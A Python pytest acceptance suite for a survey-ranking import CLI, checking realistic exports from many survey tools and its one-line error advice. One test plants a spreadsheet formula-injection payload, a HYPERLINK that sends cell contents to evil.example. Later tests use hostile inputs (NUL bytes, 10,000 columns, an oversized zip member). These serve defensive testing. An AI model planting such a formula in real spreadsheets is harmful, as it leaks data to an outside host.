"""Acceptance: `cx-pillars survey import FILE` on exports as each survey tool writes them.

The files are built in the test (tests/fixtures/survey/acceptance.py) from the tools'
documented layouts, differing from the fixtures the importer was written against
(column orders, German / Polish / Chinese UI metadata, BOM, CRLF, UTF-16 TSV,
Windows-1250, Excel-style workbooks, zips with a folder inside, partial top-3
rankings, "Other" text, hostile input). Each either imports in one command with the
respondent count, mean ranks and first places of a hand count, or fails with ONE
line that names the file and the map line to add, and then imports with that line.
"""

from __future__ import annotations

import importlib.util
import json
import re
import sys
import time
from pathlib import Path

import pytest

from cx_pillars.pillars import builtin_framework

FIX = Path(__file__).resolve().parent / "fixtures" / "survey"


def _module(name: str, path: Path):
    if name not in sys.modules:
        spec = importlib.util.spec_from_file_location(name, path)
        module = importlib.util.module_from_spec(spec)
        sys.modules[name] = module
        spec.loader.exec_module(module)
    return sys.modules[name]


acc = _module("survey_acceptance_exports", FIX / "acceptance.py")


@pytest.fixture
def run(tmp_path):
    """Run `cx-pillars survey import ...` in-process: (exit code, output)."""
    from typer.testing import CliRunner

    from cx_pillars.cli import app

    runner = CliRunner()
    store = tmp_path / "store"
    count = iter(range(1000))

    def invoke(*args: object) -> tuple[int, str]:
        argv = ["survey", "import", *map(str, args), "--dir", str(store)]
        argv += ["--name", f"s{next(count)}"]
        res = runner.invoke(app, argv)
        assert "Traceback" not in res.output
        return res.exit_code, res.output

    return invoke


def assert_hand_count(output: str, rankings) -> dict:
    doc = json.loads(output)
    n, mean, first = acc.hand_count(rankings)
    assert doc["respondents"] == n
    assert doc["skipped"] == {"no ranking": sum(1 for r in rankings if not r)}
    got = {r["pillar"]: r for r in doc["ranking"]}
    assert {p: got[p]["mean_rank"] for p in acc.IDS} == pytest.approx(mean, abs=1e-9)
    assert {p: got[p]["first_place_share"] for p in acc.IDS} == pytest.approx(first, abs=1e-9)
    return doc


def one_error_line(code: int, output: str, name: str) -> str:
    assert code == 1, output
    lines = [line for line in output.splitlines() if line.strip()]
    assert len(lines) == 1, output
    assert name in lines[0]
    return lines[0]


# -- one command, the right numbers ---------------------------------------------------------

EXPORTS = {
    "ms-forms xlsx, German UI, empty first sheet": (acc.ms_forms_xlsx, "ms-forms"),
    # "Sygnatura czasowa" is Google's "Timestamp" in a Polish UI.
    "google-forms zip with a folder, Polish UI": (acc.google_zip, "google-forms"),
    "qualtrics TSV in UTF-16, CRLF, line break in a question": (
        acc.qualtrics_tsv_utf16,
        "qualtrics",
    ),
    "qualtrics zip holding an xlsx": (acc.qualtrics_zip_xlsx, "qualtrics"),
    "surveymonkey CSV, BOM, CRLF, metadata first": (acc.surveymonkey_csv_crlf_bom, "surveymonkey"),
    "surveymonkey xlsx": (acc.surveymonkey_xlsx, "surveymonkey"),
    "limesurvey 6, German headings, [Rank k], semicolons, BOM": (acc.limesurvey6_csv, "limesurvey"),
    "formbricks with Option ID columns and defanged cells": (acc.formbricks_csv, "formbricks"),
    "surveyjs ranked area only": (acc.surveyjs_json, "surveyjs"),
    "polish excel cp1250, semicolons, Nie wiem, a no-opinion column": (
        acc.wide_polish_cp1250,
        "wide",
    ),
}


EXPORTS |= {
    "ms-forms re-saved as CSV by Polish Excel": (acc.ms_forms_polish_excel_csv, "ms-forms"),
    "google-forms grid of 1st, 2nd ... as CSV": (acc.google_ordinals_csv, "google-forms"),
    "surveymonkey with its N/A column": (acc.surveymonkey_na_column, "surveymonkey"),
}


@pytest.mark.parametrize("case", list(EXPORTS))
def test_export_imports_in_one_command(case, tmp_path, run):
    build, fmt = EXPORTS[case]
    path = build(tmp_path)
    code, out = run(path, "--json")
    assert code == 0, out
    doc = assert_hand_count(out, acc.RANKINGS)
    assert doc["format"] == fmt


def test_typeform_top3_with_group_titles(tmp_path, run):
    code, out = run(acc.typeform_csv(tmp_path), "--json")
    assert code == 0, out
    doc = assert_hand_count(out, acc.TOP3)
    assert doc["detected"]["group_titles"] is True and doc["detected"]["header_rows"] == 2


def test_typeform_other_text_is_not_ranked_and_not_stored(tmp_path, run):
    rows = acc.typeform_rows(other_at=2)  # respondent 2 wrote their own third choice
    path = acc.typeform_csv(tmp_path, rows)
    code, out = run(path, "--json")
    assert code == 0, out
    # By hand: respondent 2 picked products, service, Other -> ranked products, service.
    expected = list(acc.TOP3)
    expected[1] = acc.TOP3[1][:2]
    assert_hand_count(out, expected)
    assert "account manager" not in out
    assert all("account manager" not in p.read_text() for p in tmp_path.rglob("*.toml"))


def test_ms_forms_in_chinese(tmp_path, run):
    fw = builtin_framework()
    zh = {p.id: p.texts["zh-Hans"]["label"] for p in fw.pillars}
    rows = acc.ms_forms_rows(item=zh, head=acc.MS_FORMS_ZH)
    code, out = run(acc.ms_forms_xlsx(tmp_path, rows), "--json")
    assert code == 0, out
    assert assert_hand_count(out, acc.RANKINGS)["format"] == "ms-forms"


def test_big5_traditional_chinese(tmp_path, run):
    fw = builtin_framework()
    zh = {p.id: p.texts["zh-Hant"]["label"] for p in fw.pillars}
    code, out = run(acc.big5_wide_csv(tmp_path, zh), "--json")
    assert code == 0, out
    assert_hand_count(out, acc.RANKINGS)


def test_typeform_xlsx(tmp_path, run):
    path = acc.write_xlsx(
        tmp_path / "responses.xlsx", [acc.Sheet("Responses", acc.typeform_rows())]
    )
    code, out = run(path, "--json")
    assert code == 0, out
    assert_hand_count(out, acc.TOP3)


def test_surveymonkey_xlsx_with_error_cells_and_inline_strings(tmp_path, run):
    wb = sys.modules["survey_workbooks"]
    rows = acc.surveymonkey_rows()
    row = rows[2 + 4]  # respondent 5, a top 3: the cells left out are #N/A
    row[9:19] = [wb.Error("#N/A") if c is None else c for c in row[9:19]]
    book = wb.Book([wb.Sheet("Sheet", rows)], inline_strings=True)
    code, out = run(wb.write_xlsx(tmp_path / "Data_All.xlsx", book), "--json")
    assert code == 0, out
    assert_hand_count(out, acc.RANKINGS)


def _surveyjs_results():
    out = []
    for i, ranking in enumerate(acc.RANKINGS, 1):
        data: dict[str, object] = {"name": f"R{i}"}
        if ranking:
            data["priorities"] = [acc.LABEL[p] for p in ranking]
        out.append(data)
    return out


@pytest.mark.parametrize("shape", ["wrapped", "lines"])
def test_surveyjs_results_wrapped_or_one_per_line(shape, tmp_path, run):
    results = _surveyjs_results()
    path = tmp_path / "results.json"
    if shape == "wrapped":  # as the SurveyJS service's API returns them
        path.write_text(json.dumps({"data": results, "totalCount": len(results)}))
    else:
        path.write_text("\n".join(json.dumps(r) for r in results))
    code, out = run(path, "--json")
    assert code == 0, out
    assert_hand_count(out, acc.RANKINGS)


def test_formbricks_xlsx(tmp_path, run):
    path = acc.write_xlsx(tmp_path / "export.xlsx", [acc.Sheet("Responses", acc.formbricks_rows())])
    code, out = run(path, "--json")
    assert code == 0, out
    assert_hand_count(out, acc.RANKINGS)


def mac_saved_limesurvey(tmp_path: Path) -> Path:
    """CR-only line endings and Mac Roman, as Excel for Mac re-saves a CSV."""
    rows = acc.limesurvey6_rows()
    rows[0][5:] = [f"Bitte ordnen Sie nach Wichtigkeit für Sie [Rank {k}]" for k in range(1, 11)]
    path = tmp_path / "results.csv"
    path.write_bytes(acc._csv_text(rows).replace("\n", "\r").encode("mac_roman"))
    return path


def test_limesurvey_saved_by_excel_for_mac(tmp_path, run):
    code, out = run(mac_saved_limesurvey(tmp_path), "--json")
    assert code == 0, out
    assert_hand_count(out, acc.RANKINGS)


def test_mac_roman_german_text_read_as_written(tmp_path, run):
    code, out = run(mac_saved_limesurvey(tmp_path), "--json")
    assert code == 0, out
    assert "für Sie" in json.loads(out)["detected"]["question"]


@pytest.mark.parametrize("lang", [-4, -3, -2, -1], ids=["en", "pl", "zh-Hans", "zh-Hant"])
def test_the_templates_customer_wording_imports_back(lang, tmp_path, run):
    """A Forms ranking built from `survey template` in each language: the customer
    wording ("The customer service you receive") is read back as the pillars."""
    fw = builtin_framework()
    wording = {p.id: p.aliases[lang] for p in fw.pillars}
    assert len(set(wording.values())) == len(acc.IDS)
    rows = acc.ms_forms_rows(item=wording)
    code, out = run(acc.ms_forms_xlsx(tmp_path, rows), "--json")
    assert code == 0, out
    assert_hand_count(out, acc.RANKINGS)


@pytest.mark.parametrize("other", ["Other (please specify)", "Sonstiges (bitte angeben)"])
def test_qualtrics_rank_order_with_an_other_item(other, tmp_path, run):
    """An "Other" item ranked last is not a pillar, and its text is never kept."""
    path = acc.qualtrics_with_other_item(tmp_path, other)
    code, out = run(path, "--json")
    assert code == 0, out
    assert_hand_count(out, acc.RANKINGS)
    assert "Kundenberater" not in out


def test_qualtrics_other_item_ranked_above_the_pillars(tmp_path, run):
    path = acc.qualtrics_with_other_item(tmp_path, "Other (please specify)", first=True)
    code, out = run(path, "--json")
    assert code == 0, out
    assert_hand_count(out, acc.RANKINGS)


def test_zip_with_two_exports_names_them_for_member(tmp_path, run):
    import zipfile

    text = acc._csv_text(acc.qualtrics_rows())
    path = tmp_path / "CX Survey.zip"
    names = ["CX Survey_March 27, 2026_10.15.csv", "CX Survey_March 27, 2026_10.15.tsv"]
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr(names[0], text)
        zf.writestr(names[1], acc._csv_text(acc.qualtrics_rows(), "\t"))
    line = one_error_line(*run(path), path.name)
    assert all(n in line for n in names) and "--member" in line
    for name in names:
        code, out = run(path, "--member", name, "--json")
        assert code == 0, out
        assert_hand_count(out, acc.RANKINGS)


def test_trailing_empty_columns(tmp_path, run):
    rows = [row + ["", ""] for row in acc.surveymonkey_rows()]
    path = tmp_path / "trailing.csv"
    path.write_text(acc._csv_text(rows, crlf=True), encoding="utf-8")
    code, out = run(path, "--json")
    assert code == 0, out
    assert_hand_count(out, acc.RANKINGS)


# -- one line with the map line to add, and that line works ---------------------------------


def follow_advice(line: str, tmp_path: Path, section: str) -> Path:
    """Copy the map line the error gives (after `[section] `) into a map file."""
    m = re.search(rf"\[{section}\] (.+?) and pass --map FILE", line)
    assert m, line
    path = tmp_path / "map.toml"
    path.write_text(f"[{section}]\n{m.group(1)}\n", encoding="utf-8")
    return path


def test_formula_injection_cell_as_an_item(tmp_path, run):
    rows = acc.ms_forms_rows()
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Digital experiences")'
    for row in rows[1:]:
        if row[6]:
            row[6] = row[6].replace(acc.LABEL["digital"], formula)
    path = acc.ms_forms_xlsx(tmp_path, rows)
    line = one_error_line(*run(path), path.name)
    assert '= "digital"' in line  # the guess names the pillar the text holds
    code, out = run(path, "--map", follow_advice(line, tmp_path, "values"), "--json")
    assert code == 0, out
    assert_hand_count(out, acc.RANKINGS)


def test_attention_check_on_the_same_items(tmp_path, run):
    path = acc.qualtrics_with_attention_check(tmp_path)
    line = one_error_line(*run(path), path.name)
    advice = re.findall(r'--question "([^"]+)"', line)
    assert len(advice) == 2 and any(acc.ALPHA_CHECK.startswith(a) for a in advice), line
    ours = next(a for a in advice if not acc.ALPHA_CHECK.startswith(a))
    code, out = run(path, "--question", ours, "--json")
    assert code == 0, out
    assert_hand_count(out, acc.RANKINGS)


def test_limesurvey_answer_codes(tmp_path, run):
    path = acc.limesurvey_codes_csv(tmp_path)
    line = one_error_line(*run(path), path.name)
    m = re.search(r"\[values\] (.+?) and pass --map FILE", line)
    assert m, line
    entries = m.group(1).split("; ")
    assert len(entries) == len(acc.IDS)
    # The codes' labels live in the survey definition: the user fills in the ids.
    by_code = {code: pid for pid, code in acc.LIME_CODES.items()}
    lines = [e.replace("<pillar id>", by_code[e.split('"')[1]]) for e in entries]
    (tmp_path / "map.toml").write_text("[values]\n" + "\n".join(lines) + "\n")
    code, out = run(path, "--map", tmp_path / "map.toml", "--json")
    assert code == 0, out
    assert_hand_count(out, acc.RANKINGS)


def test_same_grid_twice_advice_works(tmp_path, run):
    """Every header appears twice: the advice gives the columns by number, one map
    line each, and those lines copied into a map file import the first asking."""
    path = acc.google_same_grid_twice(tmp_path)
    line = one_error_line(*run(path), path.name)
    if "--question" in line:
        pick = re.findall(r'--question "([^"]+)"', line)[0]
        code, out = run(path, "--question", pick, "--json")
    else:
        m = re.search(r"\[columns\] (.+?) and pass --map FILE", line)
        assert m, line
        entries = m.group(1).split("; ")
        assert len(entries) == len(acc.IDS), entries
        assert all(re.fullmatch(r'\d+ = "[a-z_]+"', e) for e in entries), entries
        (tmp_path / "map.toml").write_text("[columns]\n" + "\n".join(entries) + "\n")
        code, out = run(path, "--map", tmp_path / "map.toml", "--json")
    assert code == 0, out
    assert_hand_count(out, acc.RANKINGS)


@pytest.mark.parametrize("word", ["Rang", "排名", "Ranga"])
def test_limesurvey_rank_word_in_the_survey_language(word, tmp_path, run):
    """LimeSurvey writes [Rank k] in the survey's language: German Rang, Chinese 排名."""
    rows = acc.limesurvey6_rows()
    rows[0][5:] = [f"Bitte ordnen Sie nach Wichtigkeit [{word} {k}]" for k in range(1, 11)]
    path = tmp_path / "results-survey493122.csv"
    path.write_text(acc._csv_text(rows), encoding="utf-8")
    code, out = run(path, "--json")
    assert code == 0, out
    assert assert_hand_count(out, acc.RANKINGS)["format"] == "limesurvey"


def positions_advice(line: str, tmp_path: Path) -> Path:
    """The [positions] lines of the error, each copied as it stands, one per line."""
    m = re.search(r"\[positions\] (.+?) and pass --map FILE", line)
    assert m, line
    entries = m.group(1).split("; ")
    assert all(re.fullmatch(r'"[^"…]+" = \d+', e) for e in entries), entries
    path = tmp_path / "map.toml"
    path.write_text("[positions]\n" + "\n".join(entries) + "\n", encoding="utf-8")
    return path


def test_typeform_in_german_gets_positions_that_work(tmp_path, run):
    rows = acc.typeform_rows()
    rows[1][1:7] = [
        "Was ist Ihre wichtigste Priorität?",
        "Andere",
        "Was ist Ihre zweitwichtigste Priorität?",
        "Andere",
        "Was ist Ihre drittwichtigste Priorität?",
        "Andere",
    ]
    path = acc.typeform_csv(tmp_path, rows)
    line = one_error_line(*run(path), path.name)
    code, out = run(path, "--map", positions_advice(line, tmp_path), "--json")
    assert code == 0, out
    assert_hand_count(out, acc.TOP3)


def test_long_position_headers_get_whole_map_lines(tmp_path, run):
    """Ten long headers: every advised line whole (not cut in the middle of the error
    line), all ten of them, and the import right when they are copied."""
    rows = acc.limesurvey6_rows()
    q = "Bitte ordnen Sie die folgenden Bereiche nach ihrer Wichtigkeit für Sie persönlich"
    rows[0][5:] = [f"{q} [Stufe {k}]" for k in range(1, 11)]
    path = tmp_path / "results-survey493122.csv"
    path.write_text(acc._csv_text(rows), encoding="utf-8")
    line = one_error_line(*run(path), path.name)
    mapping = positions_advice(line, tmp_path)
    assert mapping.read_text().count(" = ") == 10
    code, out = run(path, "--map", mapping, "--json")
    assert code == 0, out
    assert_hand_count(out, acc.RANKINGS)


def columns_advice_filled(line: str, tmp_path: Path, pillar_of) -> Path:
    """The [columns] lines of the error, whole, with <pillar id> filled in by the user."""
    m = re.search(r"\[columns\] (.+?) and pass --map FILE", line)
    assert m, line
    entries = m.group(1).split("; ")
    assert all(re.fullmatch(r'"[^"…]+" = "[^"]+"', e) for e in entries), entries
    lines = [e.replace("<pillar id>", pillar_of(e.split('"')[1])) for e in entries]
    path = tmp_path / "map.toml"
    path.write_text("[columns]\n" + "\n".join(lines) + "\n", encoding="utf-8")
    return path


def test_reworded_items_get_the_columns_to_map(tmp_path, run):
    rows = acc.surveymonkey_rows()
    for i in range(len(acc.IDS)):
        rows[1][9 + i] = f"Item {chr(65 + i)}"
    path = tmp_path / "monkey.csv"
    path.write_text(acc._csv_text(rows), encoding="utf-8")
    line = one_error_line(*run(path), path.name)
    mapping = columns_advice_filled(line, tmp_path, lambda n: acc.IDS[ord(n[-1]) - 65])
    assert mapping.read_text().count(" = ") == 10
    code, out = run(path, "--map", mapping, "--json")
    assert code == 0, out
    assert_hand_count(out, acc.RANKINGS)


def test_long_grid_headers_get_whole_column_lines(tmp_path, run):
    """A Google grid with a long question and its own item names: ten whole lines."""
    rows = acc.google_rows()
    q = "Please rank the following parts of your experience with us"
    rows[0][2:12] = [f"{q} [Aspect {chr(65 + i)}]" for i in range(10)]
    path = tmp_path / "grid.csv"
    path.write_text(acc._csv_text(rows, quote_all=True), encoding="utf-8")
    line = one_error_line(*run(path), path.name)
    mapping = columns_advice_filled(
        line, tmp_path, lambda n: acc.IDS[ord(re.search(r"Aspect ([A-J])", n)[1]) - 65]
    )
    assert mapping.read_text().count(" = ") == 10
    code, out = run(path, "--map", mapping, "--json")
    assert code == 0, out
    assert_hand_count(out, acc.RANKINGS)


def test_long_answers_get_whole_value_lines(tmp_path, run):
    """Ten long answers of the survey's own: the advised [values] lines are whole (not
    cut in the middle of the error line); copied, round by round, they import."""
    item = {
        p: f"How we handle the part of your experience that we call area {chr(65 + i)}"
        for i, p in enumerate(acc.IDS)
    }
    path = acc.ms_forms_xlsx(tmp_path, acc.ms_forms_rows(item=item))
    first = one_error_line(*run(path), path.name)
    assert "letzten Änderung" not in first  # Forms' own column in German: no question
    given: list[str] = []
    for _ in range(3):
        code, out = run(path, *(["--map", tmp_path / "map.toml"] if given else []), "--json")
        if code == 0:
            break
        line = one_error_line(code, out, path.name)
        m = re.search(r"\[values\] (.+?)(?:; …)? and pass --map FILE", line)
        assert m, line
        entries = m.group(1).split("; ")
        assert all(re.fullmatch(r'"[^"…]+" = "[^"]+"', e) for e in entries), entries
        for e in entries:
            pid = acc.IDS[ord(e.split('"')[1][-1]) - 65]
            given.append(e.replace("<pillar id>", pid))
        (tmp_path / "map.toml").write_text("[values]\n" + "\n".join(given) + "\n")
    assert code == 0, out
    assert_hand_count(out, acc.RANKINGS)


# -- hostile input: one line, quickly ---------------------------------------------------------


def test_ten_thousand_columns(tmp_path, run):
    path = tmp_path / "wide10k.csv"
    head = [f"c{i}" for i in range(10_000)]
    path.write_text(",".join(head) + "\n" + ",".join("1" for _ in head) + "\n")
    start = time.perf_counter()
    line = one_error_line(*run(path), path.name)
    assert time.perf_counter() - start < 10
    assert "10,000 cells; at most 5,000" in line and len(line) < 1000  # the column limit


def test_nul_bytes(tmp_path, run):
    path = acc.surveymonkey_csv_crlf_bom(tmp_path)
    data = path.read_bytes().replace(b"Customer service", b"Customer\x00service", 1)
    path.write_bytes(data)
    one_error_line(*run(path), path.name)


def test_nul_bytes_are_said_where(tmp_path, run):
    """A stray NUL is an error naming its line (counted here by hand), not 'binary'."""
    path = acc.surveymonkey_csv_crlf_bom(tmp_path)
    data = path.read_bytes().replace(b"Customer service", b"Customer\x00service", 1)
    path.write_bytes(data)
    line = one_error_line(*run(path), path.name)
    expected = data[: data.index(b"\x00")].count(b"\n") + 1
    assert f"{path.name}:{expected}:" in line and "NUL" in line, line
    assert "CSV or JSON" not in line, line


def test_a_file_of_zero_bytes_is_still_not_text(tmp_path, run):
    path = tmp_path / "export.csv"
    path.write_bytes("id,rank\n1,2\n".encode("utf-16-le"))  # UTF-16 without its mark
    line = one_error_line(*run(path), path.name)
    assert "not a text file" in line, line


def test_zip_member_declaring_a_gigabyte(tmp_path, run):
    path = acc.google_zip(tmp_path)
    member = "Ankieta klientów (odpowiedzi)/Ankieta klientów.csv"
    acc.declare_size(path, member, 1 << 30)
    start = time.perf_counter()
    one_error_line(*run(path), path.name)
    assert time.perf_counter() - start < 10
